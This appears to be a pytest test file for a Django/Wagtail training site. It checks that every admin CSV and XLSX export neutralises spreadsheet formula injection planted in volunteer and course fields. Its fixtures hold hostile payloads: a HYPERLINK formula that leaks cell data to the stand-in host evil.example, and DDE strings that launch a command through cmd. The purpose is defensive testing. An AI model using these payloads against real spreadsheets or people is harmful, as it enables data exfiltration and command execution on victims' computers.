"""Spreadsheet formula injection (issue 19, item 2): a volunteer who calls themselves
`=HYPERLINK(...)` must not run a formula on the computer of the staff member who opens an export.

Every export the admin offers is found from the URL configuration (each view with Wagtail's
spreadsheet export, ours and Wagtail's, and each `.csv` / `.xlsx` download), run with text that
starts a formula planted in everything a person can type, and read back: a CSV cell never starts
a formula (text gets an apostrophe in front), an XLSX cell is never a formula (text is stored as
text, without an apostrophe; dates as dates, numbers as numbers).
"""

import csv
import datetime
import io
import re
import uuid

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import GroupApprovalTask, TaskState, Workflow, WorkflowTask

from certificates.services import certificate_issue
from courses.learning.services import course_completion_record, course_enrol
from courses.models import BankQuestion, QuizResult
from courses.quizzes.services import quiz_attempt_start, quiz_attempt_submit
from tests.courses.quizzes.quiz_helpers import add_quiz
from tests.factories import english_admin, make_course_tree, make_organization, make_user, make_volunteer
from training.spreadsheets import FORMULA_PREFIXES, csv_cell, neutralise, xlsx_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
CMD = "=cmd|' /C calc'!A0"
# One for each prefix a spreadsheet runs; the letters after it tell where it was planted.
ATTACKS = {
    "given_name_en": HYPERLINK,
    "family_name_en": CMD,
    "given_name_th": "+cmd|' /C calc'!A0",
    "family_name_th": "-2+3+cmd|' /C calc'!A0",
    "city": "\r=cmd|' /C city'!A0",
    "organisation": "\t=cmd|' /C org'!A0",
    "course": "@SUM(1+1)*cmd|' /C course'!A0",
}
PLANTED = set(ATTACKS.values())
# XML reads a carriage return back as a line feed.
PLANTED_XLSX = {text.replace("\r", "\n") for text in PLANTED}


@pytest.fixture
def world():
    """Attack text in every field a volunteer or a trainer types that reaches an export."""
    admin = english_admin(make_user(is_superuser=True, is_staff=True))
    organisation = make_organization(name_th=ATTACKS["organisation"], name_en=ATTACKS["organisation"])
    profile = make_volunteer(
        given_name_th=ATTACKS["given_name_th"],
        family_name_th=ATTACKS["family_name_th"],
        given_name_en=ATTACKS["given_name_en"],
        family_name_en=ATTACKS["family_name_en"],
        city=ATTACKS["city"],
        country="NO",
        organization=organisation,
    )
    volunteer = profile.user
    volunteer.first_name, volunteer.last_name = HYPERLINK, CMD
    volunteer.save()
    course, module, _lesson = make_course_tree(title=ATTACKS["course"])
    quiz = add_quiz(module)
    course_enrol(volunteer=volunteer, course=course)
    attempt = quiz_attempt_start(volunteer=volunteer, quiz=quiz, token=uuid.uuid4())
    quiz_attempt_submit(attempt=attempt, answers={"q-short": CMD})
    QuizResult.objects.update_or_create(
        volunteer=volunteer, quiz=quiz, defaults={"grade": 40, "passed": False}
    )
    course_completion_record(volunteer=volunteer, course=course)
    certificate_issue(volunteer=volunteer, course=course)
    # Staff edited the record: the site history keeps the volunteer's name as the entry's label.
    log(instance=profile, action="wagtail.edit", user=admin)
    module.locked, module.locked_by, module.locked_at = True, admin, datetime.datetime.now(datetime.UTC)
    module.save()
    workflow = Workflow.objects.create(name="Review")
    task = GroupApprovalTask.objects.create(name="Check")
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    workflow.start(course, admin)
    assert TaskState.objects.exists()
    Redirect.objects.create(old_path="/old", redirect_link=HYPERLINK)
    # A trainer's bank question (the bank's listing exports its text).
    BankQuestion(
        question=[
            {"type": "true_false", "value": {"prompt": CMD, "answer": "true", "points": "1", "feedback": ""}}
        ]
    ).save()
    return {"admin": admin, "quiz": quiz, "course": course}


def _patterns(resolver=None, prefix=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern


def _list_export(pattern) -> list:
    view_class = pattern.callback.view_class
    return list(pattern.callback.view_initkwargs.get("list_export", view_class.list_export))


def export_views() -> dict[str, tuple]:
    """Every spreadsheet export view the URL configuration routes to, once per view (its "results"
    twin for the listing's live updates is the same view): {route: (class, list_export)}."""
    found = {}
    for route, pattern in _patterns():
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        key = (view_class, tuple(_list_export(pattern)))
        if key not in found.values():
            found[route] = key
    return found


def download_routes() -> list[tuple[str, URLPattern]]:
    """Every other route that answers a spreadsheet file (`....csv` or `....xlsx`)."""
    return [
        (route, pattern)
        for route, pattern in _patterns()
        if re.search(r"\.(csv|xlsx)\$?$", route) and not hasattr(pattern.callback, "view_class")
    ]


def csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_csv_safe(rows: list[list[str]], where: str) -> set[str]:
    """No cell starts a formula; returns the cells that start with a planted text (neutralised)."""
    running = [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]
    assert not running, f"{where} writes cells a spreadsheet runs: {running}"
    return {cell for row in rows for cell in row if cell.startswith(tuple("'" + text for text in PLANTED))}


def assert_xlsx_safe(cells: list, where: str) -> set[str]:
    """No cell is a formula, and text is stored as it was typed; returns the cells that start
    with a planted text."""
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert not formulas, f"{where} writes formulas: {formulas}"
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    quoted_prefixes = tuple("'" + text for text in PLANTED_XLSX)
    quoted = [cell.value for cell in texts if cell.value.startswith(quoted_prefixes)]
    assert not quoted, f"{where} shows an apostrophe in text cells: {quoted}"
    planted = tuple(PLANTED_XLSX)
    return {cell.value for cell in texts if cell.value.startswith(planted) and cell.data_type == "s"}


def test_the_walk_finds_the_exports_of_both_wagtail_and_our_apps():
    routes = set(export_views()) | {route for route, _pattern in download_routes()}
    for route in (
        "admin/certificates/issued/",
        "admin/reports/site-history/",
        "admin/reports/locked/",
        "admin/reports/aging-pages/",
        "admin/volunteers/people/",
        "admin/reports/completions/",
        "admin/reports/quiz-results/",
        "admin/courses/<int:course_id>/participants/",
    ):
        assert route in routes
    assert any("statistics.xlsx" in route for route in routes)


def test_every_export_the_admin_offers_neutralises_formulas_in_csv_and_xlsx(client, world):
    client.force_login(world["admin"])
    # A course's participants (issue 23) are exported from the course's own address.
    values = {"course_id": world["course"].pk}
    offered = 0
    for route, (view_class, list_export) in export_views().items():
        missing = set(re.findall(r"<(?:\w+:)?(\w+)>", route)) - set(values)
        assert not missing, f"{route}: give the walk a way to fill the route's parameters {missing}"
        url = "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda match: str(values[match[1]]), route)
        for export_format in ("csv", "xlsx"):
            response = client.get(url, {"export": export_format})
            assert response.status_code == 200, (url, export_format, response.status_code)
            where = f"{view_class.__name__} ({url}?export={export_format})"
            if export_format == "csv":
                found = assert_csv_safe(csv_cells(response), where)
            else:
                found = assert_xlsx_safe(xlsx_cells(response), where)
            # An export that offers columns (its own listing's, or a report's) must have met the
            # attack, or this test would prove nothing about it: plant text where it reads.
            if list_export or view_class.__module__.startswith(("courses", "certificates", "volunteers")):
                assert found, f"{where} shows none of the planted texts"
                offered += 1
    assert offered >= 2 * 11


def test_every_spreadsheet_download_keeps_learners_text_as_text(client, world):
    client.force_login(world["admin"])
    values = {"page_id": world["quiz"].pk}
    routes = download_routes()
    assert routes
    for route, pattern in routes:
        missing = set(pattern.pattern.converters) - set(values)
        assert not missing, f"{route}: give the walk a value for {missing}"
        url = "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda match: str(values[match[1]]), route).rstrip("$")
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".xlsx"):
            found = assert_xlsx_safe(xlsx_cells(response), url)
        else:
            found = assert_csv_safe(csv_cells(response), url)
        assert found, f"{url} shows none of the planted texts"


def test_a_volunteer_named_as_a_formula_is_text_in_the_issued_certificates_export(client, world):
    client.force_login(world["admin"])
    rows = csv_cells(client.get("/admin/certificates/issued/", {"export": "csv"}))
    assert f"'{HYPERLINK} {CMD}" in rows[1]
    cells = xlsx_cells(client.get("/admin/certificates/issued/", {"export": "xlsx"}))
    name = next(cell for cell in cells if cell.value == f"{HYPERLINK} {CMD}")
    assert name.data_type == "s"
    # Issued stays a date a spreadsheet can sort, with no apostrophe.
    assert any(isinstance(cell.value, datetime.datetime) for cell in cells)


def test_a_volunteer_named_as_a_formula_is_text_in_the_site_history_export(client, world):
    client.force_login(world["admin"])
    rows = csv_cells(client.get("/admin/reports/site-history/", {"export": "csv"}))
    labels = [cell for row in rows for cell in row if HYPERLINK in cell]
    assert labels and all(label.startswith("'") for label in labels)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]
    cells = xlsx_cells(client.get("/admin/reports/site-history/", {"export": "xlsx"}))
    labels = [cell for cell in cells if isinstance(cell.value, str) and HYPERLINK in cell.value]
    assert labels and all(cell.data_type == "s" and cell.value[0] in "+=" for cell in labels)
    assert any(isinstance(cell.value, datetime.datetime) for cell in cells)


def test_cells_are_typed_and_only_text_is_neutralised():
    from openpyxl import Workbook

    sheet = Workbook().active
    for prefix in FORMULA_PREFIXES:
        assert neutralise(f"{prefix}1") == f"'{prefix}1"
        assert csv_cell(f"{prefix}1") == f"'{prefix}1"
        cell = xlsx_cell(sheet, f"{prefix}1")
        assert (cell.value, cell.data_type) == (f"{prefix}1", "s")
    assert csv_cell(-5) == -5 and csv_cell("กัญญา") == "กัญญา"
    moment = datetime.datetime(2026, 12, 2, 13, 5, tzinfo=datetime.UTC)
    assert xlsx_cell(sheet, moment).value == datetime.datetime(2026, 12, 2, 13, 5)
    assert xlsx_cell(sheet, 7).data_type == "n"
    # A control character XLSX forbids (a 500 in openpyxl) is dropped, the rest of the text kept.
    assert xlsx_cell(sheet, "Na\x01pa").value == "Napa"
